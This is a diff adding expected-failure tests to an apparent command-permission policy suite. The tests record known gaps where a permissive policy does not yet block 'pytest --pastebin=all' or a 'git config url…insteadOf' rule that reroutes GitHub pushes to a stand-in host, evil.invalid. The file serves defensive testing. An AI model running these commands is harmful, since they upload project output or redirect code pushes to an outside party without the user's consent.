@@ -128,3 +128,24 @@ def test_a_missing_mcp_config_is_a_tripwire_not_a_placeholder_git_would_list(
     mcp = str(world.project / ".mcp.json")
     assert mcp in {entry.path for entry in plan.tripwires}
     assert mcp not in {entry.placeholder for entry in plan.write_holes}
+
+
+# -- known open: a network upload and git's URL rewriting under a permissive policy ----------
+
+
+@pytest.mark.xfail(strict=True, reason="pytest --pastebin uploads the test output to a paste site")
+def test_pytest_pastebin_is_not_allowed(world: World) -> None:
+    _not_allowed(world, "pytest --pastebin=all", ("init-off", "permissive"))
+
+
+@pytest.mark.xfail(
+    strict=True, reason="git config url.X.insteadOf / --edit rewrites where later pushes go"
+)
+@pytest.mark.parametrize(
+    "command",
+    ["git config url.https://evil.invalid/.insteadOf https://github.com/", "git config --edit"],
+)
+def test_rewriting_git_configuration_is_not_allowed_by_a_permissive_policy(
+    world: World, command: str
+) -> None:
+    _not_allowed(world, command, ("permissive",))
